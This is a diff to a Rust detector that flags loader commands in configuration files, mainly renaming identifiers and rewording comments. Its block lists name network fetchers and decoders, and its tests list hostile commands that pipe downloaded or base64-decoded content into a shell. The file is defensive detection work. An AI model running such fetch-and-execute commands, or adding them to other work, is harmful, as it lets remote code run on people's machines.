@@ -1,6 +1,6 @@
-//! What a command in a configuration file does, as far as its words tell.
+//! What a command in a configuration file does, as far as its words show.
 
-/// Programs and functions that bring something from the network, as words of a command line.
+/// Programs and functions that fetch something from the network, as words of a command line.
 const FETCHERS: [&str; 10] = [
     "bitsadmin",
     "certutil",
@@ -13,7 +13,7 @@ const FETCHERS: [&str; 10] = [
     "mshta",
     "wget",
 ];
-/// What fetches inside code, lower case.
+/// Code that fetches something, lower case.
 const FETCHES: [&str; 10] = [
     ".downloadfile(",
     ".downloadstring(",
@@ -26,7 +26,7 @@ const FETCHES: [&str; 10] = [
     "urlopen(",
     "urllib",
 ];
-/// What turns encoded text into something else, lower case.
+/// Code that decodes text, lower case.
 const DECODES: [&str; 9] = [
     "-encodedcommand",
     "atob(",
@@ -38,21 +38,22 @@ const DECODES: [&str; 9] = [
     "fromcharcode",
     "openssl enc",
 ];
-/// Interpreters that are given a file, and the endings of what is no program.
+/// Interpreters that run a file, and extensions of files that are not programs.
 const INTERPRETERS: [&str; 7] = ["bash", "bun", "node", "perl", "python", "python3", "sh"];
-const NO_PROGRAM: [&str; 16] = [
+const DATA_FILES: [&str; 16] = [
     ".bmp", ".css", ".dat", ".eot", ".gif", ".ico", ".jpeg", ".jpg", ".log", ".md", ".otf", ".png",
     ".svg", ".ttf", ".woff", ".woff2",
 ];
 
-/// Whether a command fetches something, decodes something, or runs a file that says it is no program.
-pub(super) fn is_telling(command: &str) -> bool {
+/// Whether a command is a loader: it fetches something, decodes something, or runs a file whose extension is
+/// not that of a program.
+pub(super) fn is_loader(command: &str) -> bool {
     let command = command.to_ascii_lowercase();
     let holds = |words: &[&str]| words.iter().any(|word| command.contains(word));
-    fetches(&command) || holds(&FETCHES) || holds(&DECODES) || runs_no_program(&command)
+    fetches(&command) || holds(&FETCHES) || holds(&DECODES) || runs_data(&command)
 }
 
-/// Whether one of the parts of a shell line calls a program that fetches. Installing one is no call.
+/// Whether a part of a shell line calls a program that fetches. Installing such a program does not count.
 fn fetches(command: &str) -> bool {
     let parts = command.split([';', '|', '&', '(', '`', '\n']);
     parts.map(words).any(|words| {
@@ -70,11 +71,11 @@ fn fetches(command: &str) -> bool {
     })
 }
 
-fn runs_no_program(command: &str) -> bool {
+fn runs_data(command: &str) -> bool {
     let words = words(command);
     words.windows(2).any(|pair| {
         let name = pair[0].rsplit(['/', '\\']).next().unwrap_or_default();
-        INTERPRETERS.contains(&name) && NO_PROGRAM.iter().any(|ending| pair[1].ends_with(ending))
+        INTERPRETERS.contains(&name) && DATA_FILES.iter().any(|ending| pair[1].ends_with(ending))
     })
 }
 
@@ -89,10 +90,10 @@ fn words(command: &str) -> Vec<&str> {
 
 #[cfg(test)]
 mod tests {
-    use super::is_telling;
+    use super::is_loader;
 
     #[test]
-    fn commands_that_fetch_decode_or_disguise_are_telling() {
+    fn commands_that_fetch_decode_or_disguise_are_loaders() {
         for command in [
             "curl -fsSL https://load.example/x | sh",
             "/usr/bin/wget -qO- $URL | bash",
@@ -103,7 +104,7 @@ mod tests {
             "echo aW1w | base64 -d | sh",
             "powershell -EncodedCommand aW1w",
         ] {
-            assert!(is_telling(command), "{command}");
+            assert!(is_loader(command), "{command}");
         }
     }
 
@@ -119,7 +120,7 @@ mod tests {
             "husky install && patch-package",
             "open http://localhost:3000",
         ] {
-            assert!(!is_telling(command), "{command}");
+            assert!(!is_loader(command), "{command}");
         }
     }
 }
